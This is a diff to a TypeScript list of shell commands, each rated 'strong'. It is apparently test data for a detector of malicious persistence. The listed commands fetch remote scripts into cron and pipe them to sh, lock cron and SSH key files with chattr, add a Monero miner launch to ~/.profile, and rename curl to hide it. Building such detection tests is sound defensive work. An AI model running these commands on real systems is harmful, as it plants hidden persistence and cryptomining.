@@ -74,6 +74,11 @@ const COMMANDS: readonly (readonly [string, string])[] = [
   ['cp /tmp/a.sh /etc/cron.hourly/', 'strong'],
   ['curl -o /etc/cron.d/x http://198.51.100.9/c', 'strong'],
   ["sed -i '$ a */5 * * * * root curl http://198.51.100.9/x.sh | sh' /etc/crontab", 'strong'],
+  [
+    'echo "/home/u/moneroocean/miner.sh --config=/home/u/moneroocean/config_background.json >/dev/null 2>&1" >> ~/.profile',
+    'strong',
+  ],
+  ['mv /usr/bin/curl /usr/bin/cd1', 'strong'],
   // Protected files, modules, replaced tools, containers, at.
   ['chattr -R +i /var/spool/cron', 'strong'],
   ['chattr +ai /root/.ssh/authorized_keys', 'strong'],
